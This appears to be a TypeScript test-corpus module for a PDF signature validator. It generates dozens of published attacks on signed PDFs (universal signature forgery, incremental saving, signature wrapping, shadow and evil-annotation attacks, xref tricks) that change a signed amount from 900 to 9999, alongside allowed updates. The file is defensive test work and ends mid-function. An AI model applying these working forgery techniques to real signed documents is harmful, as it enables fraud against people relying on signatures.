/**
 * The attack corpus: base documents (base.ts, xref table and xref stream + object stream
 * variants), signed with kyso's own signing API (approval, certification P=1/P=2/P=3), then each
 * attack appended as raw bytes by raw.ts (never kyso's writer). Allowed changes are made the way a
 * real user's tool makes them: kyso's API (second signature, DSS, document time-stamp), a
 * hand-written form fill, and MuPDF's form filler (`mutool run`, incremental save).
 *
 * Deterministic for a given signed file: the attacks are pure functions of the signed bytes. The
 * signatures themselves use the test PKI's fresh keys, so the signed bytes differ per run.
 */
import fs from 'node:fs';
import path from 'node:path';
import {
  type AppearanceProvider,
  PdfName,
  addDocumentTimeStamp,
  addDss,
  dict,
  signPdf,
} from '@kyso/pdf-sign';
import { run, toolPath } from '../../packages/pki-core/test/helpers/tools.js';
import type { PdfTestPki } from '../../packages/pdf-sign/test/helpers/pki.js';
import {
  AMOUNT_RECT,
  CONTENT,
  OBJ,
  PAGE,
  type XrefVariant,
  SEAL_RECT,
  coverStream,
  dictObjects,
  makeBase,
  noteAppearance,
} from './base.js';
import {
  type ObjStmSpec,
  type UpdateSpec,
  appendUpdate,
  concat,
  lastDefinition,
  lastSignatureDict,
  lastTrailer,
  latin1,
  stream,
  text,
} from './raw.js';

export type SignMode = 'approval' | 'P1' | 'P2' | 'P3';
export const SIGN_MODES: readonly SignMode[] = ['approval', 'P1', 'P2', 'P3'];
export const VARIANTS: readonly XrefVariant[] = ['table', 'objstm'];

/** Base documents: plain, with a skewed xref entry (3b), with a dangling /Contents entry (2). */
export type BaseFlavour = 'plain' | 'skew' | 'dangling-contents';

export interface AttackContext {
  signed: Uint8Array;
  variant: XrefVariant;
  mode: SignMode;
  pki: PdfTestPki;
  /** Scratch directory (for mutool). */
  dir: string;
}

export interface AttackClass {
  id: string;
  /** Family shown in the conformance table. */
  family: string;
  /** What the update does, and the paper or issue it comes from. */
  description: string;
  /** 'attack': must not be VALID silently when it changes the rendering; 'allowed': must be VALID. */
  kind: (mode: SignMode) => 'attack' | 'allowed';
  /** The signed document it starts from (default 'plain'). */
  base?: BaseFlavour;
  /** The attacked file, or undefined when the class is not meaningful for this variant/mode. */
  make: (ctx: AttackContext) => Promise<Uint8Array | undefined> | Uint8Array | undefined;
}

// ---------------------------------------------------------------------------------------------
// Building blocks

const ref = (n: number) => `${n} 0 R`;
const xrefOf = (v: XrefVariant): UpdateSpec['xref'] => (v === 'table' ? 'table' : 'stream');
/** A fresh object number above every number the file uses. */
const fresh = (pdf: Uint8Array, k = 0) => lastTrailer(pdf).size + k;

/** The replaced amount drawn opaquely over the original one (a white box, then the new text). */
const COVER = `q 1 g ${AMOUNT_RECT[0]} ${AMOUNT_RECT[1]} ${AMOUNT_RECT[2] - AMOUNT_RECT[0]} ${AMOUNT_RECT[3] - AMOUNT_RECT[1]} re f Q BT /F1 14 Tf 0 g 30 200 Td (So tien: 9999 dong) Tj ET`;
const coverForm = (fontRes = `/Font << /F1 ${ref(OBJ.font)} >>`) =>
  stream(`/Type /XObject /Subtype /Form /BBox [0 0 ${PAGE.w} ${PAGE.h}] /Resources << ${fontRes} >>`, COVER);
/** An appearance stream of a widget/annotation over AMOUNT_RECT that hides the amount. */
const coverAppearance = coverStream;
/** Content stream 4 with the amount changed. */
const changedContent = () => stream('', CONTENT.replace('So tien: 900 dong', 'So tien: 9999 dong'));
const dictBody = (num: number) => {
  const o = dictObjects().find((x) => x.num === num);
  if (!o) throw new Error(`no base object ${num}`);
  return o.body;
};
/** The current body of a dictionary object: its last plain definition, else the base's. */
const currentBody = (pdf: Uint8Array, num: number) => lastDefinition(pdf, num)?.body ?? dictBody(num);
const withArrayItem = (body: string, key: string, item: string) => {
  const re = new RegExp(`/${key}\\s*\\[([^\\]]*)\\]`);
  if (!re.test(body)) throw new Error(`no /${key} array in ${body.slice(0, 80)}`);
  return body.replace(re, (_m, inner: string) => `/${key} [${inner.trim()} ${item}]`);
};

/** The object stream 100 rewritten with `change` applied to its members, listed alone in the xref. */
function redefineObjStm(pdf: Uint8Array, change: (num: number, body: string) => string): Uint8Array {
  const objects = dictObjects().map((o) => ({ num: o.num, body: change(o.num, o.body) }));
  return appendUpdate(pdf, { xref: 'stream', objStms: [{ num: OBJ.objStm, objects }], listMembers: false });
}

/**
 * Objects written by an attack: plain with an xref table in the table variant; in the objstm
 * variant dictionaries go into a new object stream (listed in an xref stream), streams stay plain.
 */
function update(
  ctx: AttackContext,
  objs: { num: number; body: string | Uint8Array }[],
  extra: Partial<UpdateSpec> = {},
): Uint8Array {
  if (ctx.variant === 'table') return appendUpdate(ctx.signed, { xref: 'table', objects: objs, ...extra });
  const dicts = objs.filter((o): o is { num: number; body: string } => typeof o.body === 'string');
  const streams = objs.filter((o) => typeof o.body !== 'string');
  const objStms: ObjStmSpec[] = dicts.length
    ? [{ num: Math.max(fresh(ctx.signed), ...objs.map((o) => o.num + 1)), objects: dicts }]
    : [];
  return appendUpdate(ctx.signed, { xref: 'stream', objects: streams, objStms, ...extra });
}

/** The signature dictionary of the signed revision with `edit` applied to its text. */
function editSignature(pdf: Uint8Array, edit: (body: string) => string): { num: number; body: string } {
  const s = lastSignatureDict(pdf);
  return { num: s.num, body: edit(s.body) };
}

// ---------------------------------------------------------------------------------------------
// Signing

/**
 * /M of the signatures: the start of the current UTC day (the test PKI's certificates are valid
 * from 30 days ago, so a fixed calendar date would one day precede them).
 */
const SIGNING_TIME = new Date(Math.floor(Date.now() / 86_400_000) * 86_400_000);

/** Signs a base document with kyso's API: an approval signature or a certification with P. */
export async function signBase(base: Uint8Array, mode: SignMode, pki: PdfTestPki): Promise<Uint8Array> {
  return (
    await signPdf(base, {
      signer: pki.official,
      level: 'B-B',
      signingTime: SIGNING_TIME,
      reason: 'Ky ban hanh',
      ...(mode === 'approval' ? {} : { certify: Number(mode.slice(1)) as 1 | 2 | 3 }),
    })
  ).pdf;
}

// ---------------------------------------------------------------------------------------------
// The classes

const always = () => 'attack' as const;
/** Form filling / signing: allowed under an approval signature and P=2/P=3, not under P=1. */
const fillLike = (mode: SignMode) => (mode === 'P1' ? ('attack' as const) : ('allowed' as const));
const HIDDEN_LAYER_ON = (body: string) => body.replace(/\/OFF \[[^\]]*\]/, `/ON [${ref(OBJ.ocg)}] /OFF []`);
const NINE_FOR_ZERO = (body: string) =>
  body.replace(
    '/Encoding /WinAnsiEncoding',
    '/Encoding << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [48 /nine] >>',
  );

export const ATTACKS: AttackClass[] = [
  // (1) object-stream redefinition (issue 12)
  {
    id: 'objstm-font-differences',
    family: '1 object-stream redefinition',
    description:
      'the update redefines only the object stream; inside it the font gains /Differences [48 /nine] so "900" renders "999" (table variant: the same change to a plain font object)',
    kind: always,
    make: (ctx) =>
      ctx.variant === 'objstm'
        ? redefineObjStm(ctx.signed, (n, b) => (n === OBJ.font ? NINE_FOR_ZERO(b) : b))
        : update(ctx, [{ num: OBJ.font, body: NINE_FOR_ZERO(dictBody(OBJ.font)) }]),
  },
  {
    id: 'objstm-hidden-layer-on',
    family: '1 object-stream redefinition',
    description:
      'the update redefines only the object stream; inside it /OCProperties switches the hidden layer ("HUY BO") on (table variant: plain /OCProperties object)',
    kind: always,
    make: (ctx) =>
      ctx.variant === 'objstm'
        ? redefineObjStm(ctx.signed, (n, b) => (n === OBJ.ocProperties ? HIDDEN_LAYER_ON(b) : b))
        : update(ctx, [{ num: OBJ.ocProperties, body: HIDDEN_LAYER_ON(dictBody(OBJ.ocProperties)) }]),
  },
  // (2) references dangling in the signed revision, defined later (issue 12)
  {
    id: 'dangling-xobject',
    family: '2 dangling reference defined later',
    description:
      'the signed page draws /Ov Do with /Ov 41 0 R undefined; the update defines 41 (white box, new amount)',
    kind: always,
    make: (ctx) => update(ctx, [{ num: OBJ.danglingXObject, body: coverForm() }]),
  },
  {
    id: 'dangling-contents',
    family: '2 dangling reference defined later',
    description:
      "the page's /Contents array names 42 0 R, undefined when signed (poppler then draws no content at all); the update defines it",
    base: 'dangling-contents',
    kind: always,
    make: (ctx) => update(ctx, [{ num: OBJ.danglingContent, body: stream('', COVER) }]),
  },
  {
    id: 'dangling-annot',
    family: '2 dangling reference defined later',
    description:
      "the page's /Annots names 43 0 R, undefined when signed; the update defines a FreeText annotation without /AP over the amount (viewers synthesise its appearance)",
    kind: always,
    make: (ctx) =>
      update(ctx, [
        {
          num: OBJ.danglingAnnot,
          body: `<< /Type /Annot /Subtype /FreeText /Rect [${AMOUNT_RECT.join(' ')}] /Contents (So tien: 9999 dong) /DA (/Helv 14 Tf 0 g) /P ${ref(OBJ.page)} /F 4 /C [1 1 1] >>`,
        },
      ]),
  },
  // (3) bytes the reader ignores, a viewer repairs (issue 12)
  {
    id: 'eof-startxref-into-xref',
    family: '3 repaired by viewers',
    description:
      'after the last %%EOF: a new content object and a startxref pointing 2 bytes into the signed xref keyword (no new xref); viewers repair the xref and take the later object',
    kind: always,
    make: (ctx) =>
      appendUpdate(ctx.signed, {
        xref: 'none',
        objects: [{ num: OBJ.content, body: changedContent() }],
        startxref: lastTrailer(ctx.signed).startxref + 2,
      }),
  },
  {
    id: 'skewed-entry-object-appended',
    family: '3 repaired by viewers',
    description:
      "the signed file's xref entry of the content stream is 3 bytes off; the update appends that object again with no xref, no trailer, no startxref",
    base: 'skew',
    kind: always,
    make: (ctx) =>
      appendUpdate(ctx.signed, {
        xref: 'none',
        bare: true,
        objects: [{ num: OBJ.content, body: changedContent() }],
      }),
  },
  // (4) objects reachable only through /Parent (issue 12)
  {
    id: 'parent-inherited-resources',
    family: '4 reachable only through /Parent',
    description:
      'the page inherits /Resources from its /Parent 20, a /Pages node outside the page tree; the update redefines 20 with a font whose /Differences turn 0 into 9 (MuPDF follows /Parent; poppler walks the tree)',
    kind: always,
    make: (ctx) => {
      const font = fresh(ctx.signed);
      return update(ctx, [
        { num: font, body: NINE_FOR_ZERO(dictBody(OBJ.font)) },
        {
          num: OBJ.parentNode,
          body: `<< /Type /Pages /Kids [${ref(OBJ.page)}] /Count 1 /Resources << /Font << /F1 ${ref(font)} >> /Properties << /oc1 ${ref(OBJ.ocg)} >> /XObject << /Ov ${ref(OBJ.danglingXObject)} >> >> >>`,
        },
      ]);
    },
  },
  // USF: universal signature forgery (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019)
  ...(
    [
      ['contents-missing', (b: string) => b.replace(/\/Contents\s*<[0-9A-Fa-f]*>/, '')],
      ['contents-empty', (b: string) => b.replace(/\/Contents\s*<[0-9A-Fa-f]*>/, '/Contents <>')],
      ['contents-null', (b: string) => b.replace(/\/Contents\s*<[0-9A-Fa-f]*>/, '/Contents null')],
      ['byterange-missing', (b: string) => b.replace(/\/ByteRange\s*\[[^\]]*\]/, '')],
      ['byterange-null', (b: string) => b.replace(/\/ByteRange\s*\[[^\]]*\]/, '/ByteRange null')],
      ['byterange-empty', (b: string) => b.replace(/\/ByteRange\s*\[[^\]]*\]/, '/ByteRange []')],
    ] as const
  ).map(
    ([v, edit]): AttackClass => ({
      id: `usf-${v}`,
      family: 'USF (2019)',
      description: `universal signature forgery: the signature dictionary redefined with ${v.replace('-', ' ')}, and the amount changed`,
      kind: always,
      make: (ctx) =>
        update(ctx, [editSignature(ctx.signed, edit), { num: OBJ.content, body: changedContent() }]),
    }),
  ),
  {
    id: 'usf-signature-unlinked',
    family: 'USF (2019)',
    description:
      'universal signature forgery: the signature field redefined without /V (the signature dictionary is no longer reachable), and the amount changed',
    kind: always,
    make: (ctx) =>
      update(ctx, [
        { num: OBJ.sigField, body: currentBody(ctx.signed, OBJ.sigField).replace(/\/V\s+\d+\s+\d+\s+R/, '') },
        { num: OBJ.content, body: changedContent() },
      ]),
  },
  // ISA: incremental saving attack (CCS 2019)
  {
    id: 'isa-with-xref',
    family: 'ISA (2019)',
    description: 'incremental saving attack: an update redefining the content stream, with xref and trailer',
    kind: always,
    make: (ctx) => update(ctx, [{ num: OBJ.content, body: changedContent() }]),
  },
  {
    id: 'isa-without-xref',
    family: 'ISA (2019)',
    description:
      'incremental saving attack: the redefined content stream appended with no xref, trailer or startxref',
    kind: always,
    make: (ctx) =>
      appendUpdate(ctx.signed, {
        xref: 'none',
        bare: true,
        objects: [{ num: OBJ.content, body: changedContent() }],
      }),
  },
  {
    id: 'isa-without-xref-long',
    family: 'ISA (2019)',
    description:
      'incremental saving attack: as isa-without-xref, with 2 KiB of comment after it, so viewers no longer find the startxref near the end and repair the file',
    kind: always,
    make: (ctx) =>
      concat(
        appendUpdate(ctx.signed, {
          xref: 'none',
          bare: true,
          objects: [{ num: OBJ.content, body: changedContent() }],
        }),
        latin1(`${'%'.padEnd(63, ' ')}\n`.repeat(32)),
      ),
  },
  {
    id: 'hybrid-xrefstm-override',
    family: 'xref tricks',
    description:
      'a hybrid update: its xref table lists the content stream at its signed offset, the /XRefStm stream lists it at a new definition (ISO 32000-1 §7.5.8.4: the table section is read first)',
    kind: always,
    make: (ctx) => hybridOverride(ctx),
  },
  {
    id: 'generation-bump',
    family: 'xref tricks',
    description:
      'the update defines the content stream as "4 1 obj" with an xref entry of generation 1; the page still says 4 0 R (viewers that ignore generations show it)',
    kind: always,
    make: (ctx) => generationBump(ctx),
  },
  {
    id: 'free-overlay',
    family: 'xref tricks',
    description:
      'the update only marks the overlay object 31 free in its xref: the page /Contents entry becomes null and the line it hid shows',
    kind: always,
    make: (ctx) => appendUpdate(ctx.signed, { xref: xrefOf(ctx.variant), frees: [OBJ.overlay] }),
  },
  {
    id: 'duplicate-key-contents',
    family: 'xref tricks',
    description:
      'the page is redefined with two /Contents keys: the signed array first, then one with a cover stream (MuPDF keeps the last key)',
    kind: always,
    make: (ctx) => {
      const cover = fresh(ctx.signed);
      const page = currentBody(ctx.signed, OBJ.page);
      const signedContents = /\/Contents\s*\[[^\]]*\]/.exec(page)?.[0];
      if (!signedContents) throw new Error('no /Contents array');
      const dup = page.replace(
        signedContents,
        `${signedContents} /Contents [${ref(OBJ.content)} ${ref(OBJ.overlay)} ${ref(cover)}]`,
      );
      return update(ctx, [
        { num: cover, body: stream('', COVER) },
        { num: OBJ.page, body: dup },
      ]);
    },
  },
  {
    id: 'duplicate-key-contents-first',
    family: 'xref tricks',
    description:
      'as duplicate-key-contents with the order reversed: the cover array first, the signed array last (a reader keeping the first key sees it)',
    kind: always,
    make: (ctx) => {
      const cover = fresh(ctx.signed);
      const page = currentBody(ctx.signed, OBJ.page);
      const signedContents = /\/Contents\s*\[[^\]]*\]/.exec(page)?.[0];
      if (!signedContents) throw new Error('no /Contents array');
      const dup = page.replace(
        signedContents,
        `/Contents [${ref(OBJ.content)} ${ref(OBJ.overlay)} ${ref(cover)}] ${signedContents}`,
      );
      return update(ctx, [
        { num: cover, body: stream('', COVER) },
        { num: OBJ.page, body: dup },
      ]);
    },
  },
  {
    id: 'stream-length-short',
    family: 'xref tricks',
    description:
      'the content stream redefined with its signed data and /Length of the signed data, followed by more operators before endstream (a reader that searches for endstream draws them)',
    kind: always,
    make: (ctx) => {
      const body = concat(
        latin1(`<< /Length ${CONTENT.length} >>\nstream\n${CONTENT}\n${COVER}\n`),
        latin1('endstream'),
      );
      return update(ctx, [{ num: OBJ.content, body }]);
    },
  },
  // SWA: signature wrapping (CCS 2019)
  {
    id: 'swa-byterange-moved',
    family: 'SWA (2019)',
    description:
      'signature wrapping: the signed second part is copied (wrapped in a stream) after a malicious content object, and the signature dictionary is redefined with /ByteRange [a b c* d] pointing at the copy: the same bytes are hashed',
    kind: always,
    make: (ctx) => {
      const sig = lastSignatureDict(ctx.signed);
      const br = /\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/.exec(sig.body);
      if (!br) throw new Error('no ByteRange');
      const [a, b, c, d] = br.slice(1).map(Number) as [number, number, number, number];
      const part2 = ctx.signed.subarray(c, c + d);
      const wrapNum = fresh(ctx.signed);
      // The wrapper object's data starts at a known offset: build it first, then place the rest.
      const head = latin1(`\n${wrapNum} 0 obj\n<< /Length ${d} >>\nstream\n`);
      const wrapped = concat(head, part2, latin1('\nendstream\nendobj\n'));
      const base = concat(ctx.signed, wrapped);
      const cStar = ctx.signed.length + head.length;
      const newSig = sig.body.replace(br[0], `/ByteRange [${a} ${b} ${cStar} ${d}]`);
      return appendUpdate(base, {
        xref: xrefOf(ctx.variant),
        objects: [
          { num: OBJ.content, body: changedContent() },
          { num: sig.num, body: newSig },
        ],
      });
    },
  },
  // Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021)
  {
    id: 'shadow-hide',
    family: 'Shadow (2021)',
    description:
      'hide: the update holds only an xref that points the overlay object 31 back at its older, empty definition in the signed bytes, uncovering the line it hid',
    kind: always,
    make: (ctx) => {
      const all = text(ctx.signed);
      const first = all.indexOf(`\n${OBJ.overlay} 0 obj`) + 1;
      return appendUpdate(ctx.signed, {
        xref: xrefOf(ctx.variant),
        redirects: [{ num: OBJ.overlay, offset: first }],
      });
    },
  },
  {
    id: 'shadow-replace',
    family: 'Shadow (2021)',
    description:
      'replace: the signed form field SoTien lies over the amount; the update fills it with an opaque appearance showing 9999 (allowed form filling that overlays signed content)',
    kind: always,
    make: (ctx) => {
      const field = currentBody(ctx.signed, OBJ.amountField).replace(
        /\/T \(SoTien\)/,
        '/T (SoTien) /V (So tien: 9999 dong)',
      );
      return update(ctx, [
        { num: OBJ.amountField, body: field },
        { num: OBJ.amountAp, body: coverAppearance() },
      ]);
    },
  },
  {
    id: 'shadow-hide-and-replace',
    family: 'Shadow (2021)',
    description:
      'hide-and-replace: the signed bytes hold an unused shadow catalog, page tree and page; the update is only an xref + trailer whose /Root names the shadow catalog',
    kind: always,
    make: (ctx) => appendUpdate(ctx.signed, { xref: xrefOf(ctx.variant), root: ref(OBJ.shadowCatalog) }),
  },
  // EAA and SSA (Rohlmann, Mladenov, Mainka, Schwenk: "Breaking the Specification: PDF Certification", S&P 2021)
  ...(
    [
      ['freetext', 'FreeText', '/Contents (So tien: 9999 dong) /DA (/Helv 14 Tf 0 g)'],
      ['stamp', 'Stamp', '/Name /Approved'],
      ['redact', 'Redact', '/IC [1 1 1] /OverlayText (9999)'],
    ] as const
  ).map(
    ([v, subtype, extra]): AttackClass => ({
      id: `eaa-${v}`,
      family: 'EAA (2021)',
      description: `evil annotation: a ${subtype} annotation with an opaque appearance over the amount, added to the page /Annots (annotations are allowed only under P=3 and approval signatures)`,
      kind: always,
      make: (ctx) => {
        const annot = fresh(ctx.signed);
        const ap = annot + 1;
        const page = withArrayItem(currentBody(ctx.signed, OBJ.page), 'Annots', ref(annot));
        return update(ctx, [
          { num: ap, body: coverAppearance() },
          {
            num: annot,
            body: `<< /Type /Annot /Subtype /${subtype} /Rect [${AMOUNT_RECT.join(' ')}] ${extra} /F 4 /P ${ref(OBJ.page)} /AP << /N ${ref(ap)} >> >>`,
          },
          { num: OBJ.page, body: page },
        ]);
      },
    }),
  ),
  {
    id: 'eaa-over-vector-seal',
    family: 'EAA (2021)',
    description:
      'evil annotation: a Square annotation with an opaque white appearance over the seal the signed page draws as a path (no text, no image)',
    kind: always,
    make: (ctx) => {
      const annot = fresh(ctx.signed);
      const ap = annot + 1;
      const w = SEAL_RECT[2] - SEAL_RECT[0];
      const h = SEAL_RECT[3] - SEAL_RECT[1];
      const page = withArrayItem(currentBody(ctx.signed, OBJ.page), 'Annots', ref(annot));
      return update(ctx, [
        {
          num: ap,
          body: stream(`/Type /XObject /Subtype /Form /BBox [0 0 ${w} ${h}]`, `1 g 0 0 ${w} ${h} re f`),
        },
        {
          num: annot,
          body: `<< /Type /Annot /Subtype /Square /Rect [${SEAL_RECT.join(' ')}] /IC [1 1 1] /C [1 1 1] /F 4 /P ${ref(OBJ.page)} /AP << /N ${ref(ap)} >> >>`,
        },
        { num: OBJ.page, body: page },
      ]);
    },
  },
  ...(['reversed', 'indirect'] as const).map(
    (v): AttackClass => ({
      id: `eaa-rect-${v}`,
      family: 'EAA (2021)',
      description: `evil annotation: a FreeText annotation over the amount whose /Rect is ${v === 'reversed' ? 'written corner-reversed ([x2 y2 x1 y1], which readers normalise)' : 'an indirect reference to the array'}`,
      kind: always,
      make: (ctx) => {
        const annot = fresh(ctx.signed);
        const ap = annot + 1;
        const rectObj = annot + 2;
        const [x1, y1, x2, y2] = AMOUNT_RECT;
        const rect = v === 'reversed' ? `[${x2} ${y2} ${x1} ${y1}]` : ref(rectObj);
        const page = withArrayItem(currentBody(ctx.signed, OBJ.page), 'Annots', ref(annot));
        return update(ctx, [
          { num: ap, body: coverAppearance() },
          ...(v === 'indirect' ? [{ num: rectObj, body: `[${AMOUNT_RECT.join(' ')}]` }] : []),
          {
            num: annot,
            body: `<< /Type /Annot /Subtype /FreeText /Rect ${rect} /Contents (So tien: 9999 dong) /DA (/Helv 14 Tf 0 g) /F 4 /P ${ref(OBJ.page)} /AP << /N ${ref(ap)} >> >>`,
          },
          { num: OBJ.page, body: page },
        ]);
      },
    }),
  ),
  {
    id: 'hidden-annotation-shown',
    family: 'EAA (2021)',
    description:
      'the signed page holds a Stamp annotation flagged Hidden (/F 2) over the amount; the update only clears the flag',
    kind: always,
    make: (ctx) =>
      update(ctx, [
        { num: OBJ.hiddenAnnot, body: currentBody(ctx.signed, OBJ.hiddenAnnot).replace('/F 2', '/F 4') },
      ]),
  },
  {
    id: 'checkbox-prepared-appearance',
    family: 'form appearance',
    description:
      'the signed check box over the amount has a prepared /On appearance (white box, 9999); the update switches /V and /AS to /On (form filling)',
    kind: always,
    make: (ctx) =>
      update(ctx, [
        {
          num: OBJ.checkBox,
          body: currentBody(ctx.signed, OBJ.checkBox).replace('/V /Off /AS /Off', '/V /On /AS /On'),
        },
      ]),
  },
  {
    id: 'ssa-signature-field',
    family: 'SSA (2021)',
    description:
      'sneaky signature: a new, unsigned signature field whose widget appearance covers the amount (signing is allowed under P=2)',
    kind: always,
    make: (ctx) => {
      const field = fresh(ctx.signed);
      const ap = field + 1;
      const page = withArrayItem(currentBody(ctx.signed, OBJ.page), 'Annots', ref(field));
      const acro = withArrayItem(currentBody(ctx.signed, OBJ.acroForm), 'Fields', ref(field));
      return update(ctx, [
        { num: ap, body: coverAppearance() },
        {
          num: field,
          body: `<< /FT /Sig /T (ChuKy2) /Type /Annot /Subtype /Widget /Rect [${AMOUNT_RECT.join(' ')}] /F 4 /P ${ref(OBJ.page)} /AP << /N ${ref(ap)} >> >>`,
        },
        { num: OBJ.page, body: page },
        { num: OBJ.acroForm, body: acro },
      ]);
    },
  },
  {
    id: 'need-appearances-true',
    family: 'form appearance',
    description:
      'the update sets /NeedAppearances true in the AcroForm after signing: viewers may regenerate every field appearance from /V and /DA',
    kind: always,
    make: (ctx) => {
      const acro = currentBody(ctx.signed, OBJ.acroForm).replace(/>>\s*$/, '/NeedAppearances true >>');
      return update(ctx, [{ num: OBJ.acroForm, body: acro }]);
    },
  },
  {
    id: 'filled-field-font-redefined',
    family: 'form appearance',
    description:
      'the filled field GhiChu keeps its /V; the update gives it a new /DA font (a /Differences font turning a into o) and a regenerated appearance: a fill that changes no value',
    kind: always,
    make: (ctx) => {
      const font = fresh(ctx.signed);
      const field = currentBody(ctx.signed, OBJ.noteField).replace(
        '/DA (/Helv 10 Tf 0 g)',
        '/DA (/HelvX 10 Tf 0 g)',
      );
      const ap = stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 360 25] /Resources << /Font << /HelvX ${ref(font)} >> >>`,
        '/Tx BMC q BT /HelvX 10 Tf 0 g 2 8 Td (chua nhan) Tj ET Q EMC',
      );
      return update(ctx, [
        {
          num: font,
          body: dictBody(OBJ.font).replace(
            '/Encoding /WinAnsiEncoding',
            '/Encoding << /BaseEncoding /WinAnsiEncoding /Differences [97 /o] >>',
          ),
        },
        { num: OBJ.noteField, body: field },
        { num: OBJ.noteAp, body: ap },
      ]);
    },
  },
  // Allowed changes
  {
    id: 'fill-dr-font-by-hand',
    family: 'allowed',
    description:
      'form fill: the GhiChu text field gets /V and a new appearance using the AcroForm /DR font, which the page also uses (pyHanko and pdfsig accept it)',
    kind: fillLike,
    make: (ctx) => {
      const field = currentBody(ctx.signed, OBJ.noteField).replace(/\/V \([^)]*\)/, '/V (da nhan)');
      return update(ctx, [{ num: OBJ.noteField, body: field }, noteAppearance('da nhan')]);
    },
  },
  {
    id: 'fill-dr-font-mutool',
    family: 'allowed',
    description: "form fill by MuPDF: `mutool run` setTextValue on GhiChu, doc.save(out, 'incremental')",
    kind: fillLike,
    make: (ctx) => mutoolFill(ctx),
  },
  {
    id: 'second-signature',
    family: 'allowed',
    description: 'a second (approval) signature in a new field, by kyso (not possible under P=1)',
    kind: fillLike,
    make: async (ctx) =>
      ctx.mode === 'P1'
        ? undefined
        : (await signPdf(ctx.signed, { signer: ctx.pki.seal, level: 'B-B', signingTime: SIGNING_TIME })).pdf,
  },
  {
    id: 'second-signature-over-amount',
    family: 'allowed, overlaying',
    description:
      'a second signature by kyso whose visible, opaque appearance lies over the signed amount (signing is allowed under P=2/P=3; it must be named as an overlay)',
    kind: always,
    make: async (ctx) =>
      ctx.mode === 'P1'
        ? undefined
        : (
            await signPdf(ctx.signed, {
              signer: ctx.pki.seal,
              level: 'B-B',
              signingTime: SIGNING_TIME,
              rect: [...AMOUNT_RECT],
              appearance: opaqueAppearance,
            })
          ).pdf,
  },
  {
    id: 'dss-update',
    family: 'allowed',
    description: 'a DSS update (certificates and the CRL) by kyso',
    kind: () => 'allowed',
    make: (ctx) =>
      addDss(ctx.signed, { certs: [ctx.pki.issuing.der, ctx.pki.root.der], crls: [ctx.pki.crl] }),
  },
  {
    id: 'document-timestamp',
    family: 'allowed',
    description: 'a document time-stamp (ETSI.RFC3161) by kyso',
    kind: () => 'allowed',
    make: (ctx) => addDocumentTimeStamp(ctx.signed, ctx.pki.timeStamper),
  },
];

/** Hybrid update: table entry of object 4 = its signed offset, /XRefStm entry = a new definition. */
function hybridOverride(ctx: AttackContext): Uint8Array {
  const t = lastTrailer(ctx.signed);
  const old = lastDefinition(ctx.signed, OBJ.content);
  if (!old) throw new Error('content stream not found as a plain object');
  const parts: Uint8Array[] = [ctx.signed];
  let pos = ctx.signed.length;
  const push = (b: Uint8Array) => {
    parts.push(b);
    pos += b.length;
  };
  const objAt = pos;
  push(concat(latin1(`${OBJ.content} 0 obj\n`), changedContent(), latin1('\nendobj\n')));
  const xsNum = t.size;
  const xsAt = pos;
  const data = Uint8Array.of(
    1,
    (objAt >>> 24) & 255,
    (objAt >>> 16) & 255,
    (objAt >>> 8) & 255,
    objAt & 255,
    0,
    0,
  );
  push(
    concat(
      latin1(`${xsNum} 0 obj\n`),
      stream(`/Type /XRef /Size ${xsNum + 1} /W [1 4 2] /Index [${OBJ.content} 1]`, data),
      latin1('\nendobj\n'),
    ),
  );
  const xrefAt = pos;
  const id = t.id ? ` ${t.id}` : '';
  push(
    latin1(
      `xref\n${OBJ.content} 1\n${String(old.offset).padStart(10, '0')} 00000 n\r\ntrailer\n<< /Size ${xsNum + 1} /Root ${t.root}${id} /Prev ${t.startxref} /XRefStm ${xsAt} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
    ),
  );
  return concat(...parts);
}
/** The content stream redefined as generation 1 (xref entry generation 1). */
function generationBump(ctx: AttackContext): Uint8Array {
  const t = lastTrailer(ctx.signed);
  const at = ctx.signed.length;
  const obj = concat(latin1(`${OBJ.content} 1 obj\n`), changedContent(), latin1('\nendobj\n'));
  const xrefAt = at + obj.length;
  const id = t.id ? ` ${t.id}` : '';
  if (ctx.variant === 'table') {
    return concat(
      ctx.signed,
      obj,
      latin1(
        `xref\n${OBJ.content} 1\n${String(at).padStart(10, '0')} 00001 n\r\ntrailer\n<< /Size ${t.size} /Root ${t.root}${id} /Prev ${t.startxref} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
      ),
    );
  }
  const xnum = t.size;
  const data = Uint8Array.of(
    1,
    (at >>> 24) & 255,
    (at >>> 16) & 255,
    (at >>> 8) & 255,
    at & 255,
    0,
    1,
    1,
    (xrefAt >>> 24) & 255,
    (xrefAt >>> 16) & 255,
    (xrefAt >>> 8) & 255,
    xrefAt & 255,
    0,
    0,
  );
  return concat(
    ctx.signed,
    obj,
    latin1(`${xnum} 0 obj\n`),
    stream(
      `/Type /XRef /Size ${xnum + 1} /W [1 4 2] /Index [${OBJ.content} 1 ${xnum} 1] /Root ${t.root}${id} /Prev ${t.startxref}`,
      data,
    ),
    latin1(`\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`),
  );
}

/** A visible signature appearance: an opaque box over the amount with other text. */
const opaqueAppearance: AppearanceProvider = {
  render: (ctx) => {
    const w = AMOUNT_RECT[2] - AMOUNT_RECT[0];
    const h = AMOUNT_RECT[3] - AMOUNT_RECT[1];
    const font = ctx.addObject(
      dict({ Type: PdfName.of('Font'), Subtype: PdfName.of('Type1'), BaseFont: PdfName.of('Helvetica') }),
    );
    return {
      rect: [...AMOUNT_RECT],
      bbox: [0, 0, w, h],
      resources: dict({ Font: dict({ F: font }) }),
      content: latin1(`q 1 g 0 0 ${w} ${h} re f Q BT /F 14 Tf 0 g 5 8 Td (So tien: 9999 dong) Tj ET`),
    };
  },
};

// ---------------------------------------------------------------------------------------------
// mutool form filling

const MUTOOL_FILL = `// mutool run fill.js IN OUT FIELD VALUE
var doc = new PDFDocument(scriptArgs[0]);
var page = doc.loadPage(0);
var widgets = page.getWidgets();
var done = false;
for (var i = 0; i < widgets.length; i++) {
  if (widgets[i].getLabel() === scriptArgs[2]) {
    widgets[i].setTextValue(scriptArgs[3]);
    widgets[i].update();
    done = true;
  }
}
if (!done) throw new Error("no field " + scriptArgs[2]);
doc.save(scriptArgs[1], "incremental");
`;

function mutoolFill(ctx: AttackContext): Uint8Array {
